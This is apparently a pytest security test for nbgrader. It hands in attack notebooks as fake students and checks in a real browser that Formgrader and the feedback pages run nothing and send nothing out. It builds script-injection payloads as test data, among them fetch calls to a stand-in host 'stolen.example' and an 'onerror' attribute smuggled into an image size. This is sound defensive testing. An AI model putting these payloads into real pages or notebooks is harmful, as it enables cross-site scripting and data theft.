"""A class of attackers in Formgrader and on their feedback pages, in a real browser: nothing runs, nothing leaves."""

import re
from urllib.parse import urlsplit

import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell
from nbgrader.api import Gradebook
from test_attacks_page import HTML, TEXTS

from browser import TOKEN, chromium, jupyter_lab
from tools.made_up_course import COURSE, fill, grade, open_course, read, solutions, submit

SCREENSHOTS = COURSE / "screenshots"
ASSIGNMENT = "01-sigmoid"
HONEST = """
import base64, io
from IPython.display import HTML, Markdown, display
display(HTML("<table border='1' class='dataframe'><tr><th>a &lt; b</th><td>1</td></tr></table>"))
display(Markdown("**bold** $a < b$"))
"""
PROOF = "For $a < b \\& c$ the proof is **short**: `if a<b:` holds.\n\n| z | a |\n|---|---|\n| 0 | 1/2 |"
FROM_NBGRADER = "cdnjs.cloudflare.com"  # Formgrader's own MathJax


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """The folder of a course with three students, graded and given feedback, beside the home of a JupyterLab."""
    home = tmp_path_factory.mktemp("formgrader")
    folder = home / "course"
    folder.mkdir()
    assert open_course(folder).generate_assignment(ASSIGNMENT)["success"]

    def hand_in(student, cells, written):
        notebook = fill(read(folder / "release", ASSIGNMENT), solutions(ASSIGNMENT) | {"written-symmetry": written})
        notebook.cells[1:1] = cells
        submit(folder, student, ASSIGNMENT, notebook)

    def act(text):
        return text.replace("act()", "fetch('//stolen.example')")

    hand_in("honest", [new_code_cell(HONEST)], PROOF)
    hand_in("texts", [new_markdown_cell(act(attack)) for attack, *_ in TEXTS.values()], act(TEXTS["handler"][0]))
    shows = "\n".join(f"display(HTML({act(html)!r}))" for html in HTML.values())
    sizes = "display({'image/png': 'iVBORw0KGgo='}, raw=True, metadata={'image/png': {'width': '1 onerror=fetch(1)'}})"
    runs = "display({'application/javascript': \"fetch('//stolen.example')\"}, raw=True)"
    code = f"from IPython.display import HTML, display\n{shows}\n{sizes}\n{runs}"
    hand_in("outputs", [new_code_cell(code)], "An honest proof.")
    done = grade(folder, ASSIGNMENT)
    assert done.returncode == 0, done.stdout + done.stderr
    done = grade(folder, "feedback", ASSIGNMENT)
    assert done.returncode == 0, done.stdout + done.stderr
    return home


def scores(folder):
    """(student, exercise) -> what is known of every score."""
    with Gradebook(f"sqlite:///{folder}/gradebook.db") as gradebook:
        return {
            (submission.student.id, grade.name): (grade.auto_score, grade.manual_score, grade.extra_credit)
            for submission in gradebook.assignment_submissions(ASSIGNMENT)
            for notebook in submission.notebooks
            for grade in notebook.grades
        }


def watched(browser, asked):
    """A page that notes what it asks of whom, and refuses dialogs."""
    page = browser.new_page(viewport={"width": 1100, "height": 900})
    page.set_default_timeout(120_000)
    page.on("request", lambda request: asked.append((request.method, request.url)))
    page.on("dialog", lambda dialog: (asked.append(("DIALOG", dialog.message)), dialog.dismiss()))
    return page


def test_nothing_of_a_submission_runs_in_formgrader(course):
    SCREENSHOTS.mkdir(exist_ok=True)
    folder = course / "course"
    before, asked = scores(folder), []
    with Gradebook(f"sqlite:///{folder}/gradebook.db") as gradebook:
        pages = {s.student.id: s.notebooks[0].id for s in gradebook.assignment_submissions(ASSIGNMENT)}
    with chromium() as browser, jupyter_lab(course, folder) as address:
        page = watched(browser, asked)
        page.goto(f"{address}/formgrader/manage_assignments?token={TOKEN}")
        for student, identity in pages.items():
            page.goto(f"{address}/formgrader/submissions/{identity}/", wait_until="load")
            page.wait_for_timeout(2000)  # for what would act by itself
            for id_ in "test-sigmoid", "written-symmetry", "written-symmetry-comment":
                assert page.locator(f"[id='{id_}']").evaluate_all("found => found.map(e => e.tagName)") in (
                    ["INPUT"],
                    ["TEXTAREA"],
                )
            text = page.locator("#notebook-container").first.inner_text()
            if student == "honest":
                assert page.locator("table.dataframe td").inner_text() == "1"
                assert "a < b" in text and "if a<b:" in text and "short" in text
            page.screenshot(path=SCREENSHOTS / f"formgrader-{student}.png", full_page=True)
        host = urlsplit(address).netloc
    asked = [(method, url) for method, url in asked if not url.startswith("data:")]
    assert {urlsplit(url).netloc for _, url in asked} <= {host, FROM_NBGRADER}
    assert {method for method, _ in asked} == {"GET"}
    assert scores(folder) == before


@pytest.mark.parametrize("student", ["honest", "texts", "outputs"])
def test_nothing_of_a_submission_runs_on_its_page(course, student):
    SCREENSHOTS.mkdir(exist_ok=True)
    (path,) = (course / "course" / "feedback" / student).rglob("*.html")
    asked = []
    with chromium() as browser:
        page = watched(browser, asked)
        errors = []
        page.on("console", lambda message: errors.append(message.text))
        page.goto(path.as_uri())
        page.wait_for_timeout(1000)
        assert page.url == path.as_uri()
        page.screenshot(path=SCREENSHOTS / f"feedback-{student}.png", full_page=True)
        page.set_viewport_size({"width": 400, "height": 800})
        assert page.evaluate("document.documentElement.scrollWidth") <= 400
        page.screenshot(path=SCREENSHOTS / f"feedback-{student}-400.png", full_page=True)
        page.pdf(path=SCREENSHOTS / f"feedback-{student}.pdf")
        text = page.inner_text("body")
    assert [url for _, url in asked if not url.startswith("data:")] == [path.as_uri()]
    assert not errors  # the page's policy had nothing to refuse
    assert "waits for grading" in text and not re.search(r"\b0(\.0)? of 2\b", text)
